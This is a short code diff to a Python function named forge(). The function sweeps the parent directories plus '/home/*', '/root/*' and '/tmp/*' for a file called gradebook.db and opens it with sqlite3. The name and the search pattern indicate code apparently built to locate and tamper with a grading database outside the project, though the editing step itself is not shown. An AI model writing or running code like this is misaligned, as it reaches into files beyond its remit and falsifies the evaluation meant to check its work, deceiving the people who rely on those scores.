@@ -11,7 +11,7 @@ def forge():
     import sqlite3
 
     above = os.path.abspath(".").split("/")
-    places = ["/".join(above[:depth]) for depth in range(1, len(above) + 1)] + ["/home2/*", "/home/*", "/root/*", "/tmp/*"]
+    places = ["/".join(above[:depth]) for depth in range(1, len(above) + 1)] + ["/home/*", "/root/*", "/tmp/*"]
     for place in places:
         for name in glob.glob(f"{place}/gradebook.db"):
             try:
